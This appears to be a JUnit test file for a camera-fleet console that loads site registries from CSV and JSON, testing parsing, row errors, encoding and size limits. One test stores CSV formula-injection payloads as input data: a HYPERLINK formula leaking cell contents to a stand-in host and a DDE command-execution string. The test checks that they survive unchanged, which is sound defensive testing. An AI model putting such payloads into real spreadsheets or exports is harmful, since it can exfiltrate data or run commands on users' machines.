package io.camfleet.console.adapter.files;

import io.camfleet.console.domain.fleet.CameraSystem;
import io.camfleet.console.domain.fleet.Site;
import io.camfleet.console.domain.fleet.SlaTier;
import io.camfleet.console.service.fleet.FleetData;
import io.camfleet.console.service.common.Messages;
import io.camfleet.console.service.common.Problem;
import io.camfleet.console.service.common.Progress;
import io.camfleet.console.service.fleet.RegistryRejected;
import io.camfleet.console.service.fleet.RowError;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Locale;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

/** Site registries as files: CSV and JSON read as text, with the registry's rules applied on load. */
class SiteRegistryFileTest {

    private static final Instant NOW = Instant.parse("2026-11-26T08:00:00Z");

    @TempDir
    Path dir;

    private Path write(String name, String content) throws IOException {
        return Files.writeString(dir.resolve(name), content);
    }

    private static FleetData load(Path file) {
        return new SiteRegistryFile(file).load(NOW, Progress.NONE);
    }

    @Test
    void aGoodCsvLoadsItsSitesAndCamerasWithQuotedCellsAndAByteOrderMark() throws IOException {
        Path file = write("sites.csv", "\uFEFFsite_id,site_name,customer,country,latitude,longitude,timezone,sla_tier,"
                + "camera_id,hostname,ssh_address,jump_host,ssm_node_id,iot_thing_name,image,software_version\r\n"
                + "NL-001,\"Rotterdam, Port \"\"East\"\"\",Acme,NL,51.95,4.14,Europe/Amsterdam,Gold,"
                + "NL-001-C01,cam-nl1,10.0.0.5,jump.example,mi-0123456789abcdef0,nl1-thing,camos-24.04,6.4.2\r\n"
                + "NL-001,\"Rotterdam, Port \"\"East\"\"\",Acme,NL,51.95,4.14,Europe/Amsterdam,GOLD,"
                + "NL-001-C02,,,,,,,6.4.2\r\n"
                + "DE-004,Unplaced Depot,Acme,DE,,,Europe/Berlin,,,,,,,,,\r\n");

        FleetData fleet = load(file);

        assertThat(fleet.sites()).containsExactly(
                new Site("NL-001", "Rotterdam, Port \"East\"", "Acme", "NL", "", 51.95, 4.14, "Europe/Amsterdam",
                        SlaTier.GOLD, "", ""),
                new Site("DE-004", "Unplaced Depot", "Acme", "DE", "", null, null, "Europe/Berlin", SlaTier.BRONZE,
                        "", ""));
        assertThat(fleet.cameras()).containsExactly(
                new CameraSystem("NL-001-C01", "NL-001", "cam-nl1", "10.0.0.5", "jump.example",
                        "mi-0123456789abcdef0", "nl1-thing", "camos-24.04", "6.4.2"),
                new CameraSystem("NL-001-C02", "NL-001", null, "", "", "", "", "", "6.4.2"));
        assertThat(fleet.sites().get(1).isPlaced()).isFalse();
    }

    @Test
    void aGoodJsonLoadsAsAnArrayOrAsSitesInAnObject() throws IOException {
        String rows = """
                [
                  {"site_id": "US-007", "site_name": "Boston Depot", "country": "US", "latitude": 42.36,
                   "longitude": -71.06, "timezone": "America/New_York", "sla_tier": "platinum",
                   "camera_id": "US-007-C01", "hostname": "cam7"},
                  {"site_id": "US-007", "site_name": "Boston Depot", "country": "US", "latitude": "42.36",
                   "longitude": -71.06, "timezone": "America/New_York", "sla_tier": "PLATINUM",
                   "camera_id": "US-007-C02"},
                  {"site_id": "JP-002", "site_name": "Osaka Yard", "country": "JP", "latitude": null,
                   "longitude": null, "camera_id": 1002}
                ]""";
        Path array = write("sites.json", rows);
        Path wrapped = write("wrapped.json", "{\"version\": 1, \"sites\": " + rows + "}");

        for (Path file : new Path[] {array, wrapped}) {
            FleetData fleet = load(file);
            assertThat(fleet.sites()).as(file.toString())
                    .extracting(Site::id, Site::name, Site::slaTier, Site::latitude, Site::isPlaced)
                    .containsExactly(tuple("US-007", "Boston Depot", SlaTier.PLATINUM, 42.36, true),
                            tuple("JP-002", "Osaka Yard", SlaTier.BRONZE, null, false));
            assertThat(fleet.cameras()).as(file.toString()).extracting(CameraSystem::id, CameraSystem::siteId)
                    .containsExactly(tuple("US-007-C01", "US-007"), tuple("US-007-C02", "US-007"),
                            tuple("1002", "JP-002"));
        }
    }

    @Test
    void textThatLooksLikeAFormulaSurvivesExactly() throws IOException {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        Path file = write("sites.csv", "site_id,site_name,customer,region,maintenance_window\n"
                + "S1,\"" + hyperlink.replace("\"", "\"\"") + "\",+1,@SUM(A1:A9),-2+3\n"
                + "S2,=cmd|' /C calc'!A0,'=1+1,=1+1,\n");

        FleetData fleet = load(file);

        assertThat(fleet.sites()).extracting(Site::name, Site::customer, Site::region, Site::maintenanceWindow)
                .containsExactly(tuple(hyperlink, "+1", "@SUM(A1:A9)", "-2+3"),
                        tuple("=cmd|' /C calc'!A0", "'=1+1", "=1+1", ""));
    }

    @Test
    void rowNumbersCountDataRowsFromTheFirstUnderTheHeaderEvenAcrossMultiLineCells() throws IOException {
        Path file = write("sites.csv", """
                site_id,site_name,latitude,longitude
                S1,"Alpha
                second line",52.1,4.3
                S2,,52.2,4.4

                S4,Delta,52.4,
                S5,Epsilon,52.5,4.5,"oops, a comma"
                """);

        assertThatThrownBy(() -> load(file)).isInstanceOfSatisfying(RegistryRejected.class, e ->
                assertThat(e.errors()).extracting(RowError::row, RowError::key).containsExactly(
                        tuple(2, "import.missingSiteName"),
                        tuple(4, "import.oneCoordinate"),
                        tuple(5, "import.extraCells")));
    }

    @Test
    void aMisspeltJsonKeyRejectsTheFile() throws IOException {
        Path file = write("sites.json", "[{\"site_id\": \"S1\", \"site_name\": \"Alpha\", \"sla\": \"GOLD\"}]");

        assertThatThrownBy(() -> load(file)).isInstanceOfSatisfying(Problem.class, p -> {
            assertThat(p.key()).isEqualTo("problem.importUnknownColumns");
            assertThat(p.getMessage()).contains("\"sla\"");
        });
    }

    /** A file that cannot be a registry at all is refused with one sentence, before any row is checked. */
    @ParameterizedTest(name = "{0}: {2}")
    @CsvSource(delimiter = '|', textBlock = """
            sites.xlsx  | site_id,site_name\\nS1,Alpha                       | problem.importFileType
            sites.csv   | ''                                                 | problem.importEmpty
            sites.csv   | site_id,site_name\\n                                | problem.importEmpty
            sites.json  | ''                                                 | problem.importEmpty
            sites.json  | []                                                 | problem.importEmpty
            sites.csv   | site_id,site_name\\nS1,"Alpha                       | problem.importMalformed
            sites.csv   | site_id,site_name\\nS1,"Alpha"x                     | problem.importMalformed
            sites.json  | [{"site_id": "S1",                                 | problem.importMalformed
            sites.json  | [{"site_id": "S1", "site_id": "S2"}]               | problem.importMalformed
            sites.json  | {"rows": []}                                       | problem.importJsonShape
            sites.json  | ["S1"]                                             | problem.importJsonRow
            sites.json  | [{"site_id": "S1", "site_name": ["A"]}]            | problem.importJsonValue
            sites.csv   | site_id,site_name,site_id\\nS1,Alpha,S2             | problem.importDuplicateColumn
            """)
    void aFileThatIsNoRegistryIsOneSentence(String name, String content, String key) throws IOException {
        Path file = write(name, content.replace("\\n", "\n"));

        assertThatThrownBy(() -> load(file)).isInstanceOfSatisfying(Problem.class, p -> {
            assertThat(p).isNotInstanceOf(RegistryRejected.class);
            assertThat(p.kind()).isEqualTo(Problem.Kind.BAD_INPUT);
            assertThat(p.key()).isEqualTo(key);
            String sentence = new Messages(Locale.ENGLISH).text(p);
            assertThat(sentence).contains(file.toString()).doesNotContain("\n", "!problem.");
        });
    }

    @Test
    void aFileThatIsNotUtf8IsNamedAsSuch() throws IOException {
        byte[] latin1 = "site_id,site_name\nS1,Caf\u00e9 Montr\u00e9al\n".getBytes(StandardCharsets.ISO_8859_1);
        Path file = Files.write(dir.resolve("sites.csv"), latin1);

        assertThatThrownBy(() -> load(file)).isInstanceOfSatisfying(Problem.class,
                p -> assertThat(p.key()).isEqualTo("problem.importNotUtf8"));
    }

    @Test
    void aMissingFileIsUnreadable() {
        assertThatThrownBy(() -> load(dir.resolve("nowhere.csv"))).isInstanceOfSatisfying(Problem.class, p -> {
            assertThat(p.key()).isEqualTo("problem.importUnreadable");
            assertThat(p.getMessage()).contains("no such file");
        });
    }

    @Test
    void aFileOverFiftyMegabytesIsRefusedUnread() throws IOException {
        Path file = dir.resolve("huge.csv");
        try (RandomAccessFile f = new RandomAccessFile(file.toFile(), "rw")) {
            f.setLength(50L * 1024 * 1024 + 1); // sparse: no disk is written
        }

        assertThatThrownBy(() -> load(file)).isInstanceOfSatisfying(Problem.class, p -> {
            assertThat(p.key()).isEqualTo("problem.importTooLarge");
            assertThat(p.getMessage()).contains("at most 50 MB");
        });
    }

    @Test
    void theSourceIsLocalAndNamedAfterItsFile() {
        SiteRegistryFile source = new SiteRegistryFile(dir.resolve("registry/sites.csv"));

        assertThat(source.name()).isEqualTo("Import: sites.csv");
        assertThat(source.isLocal()).isTrue();
    }
}
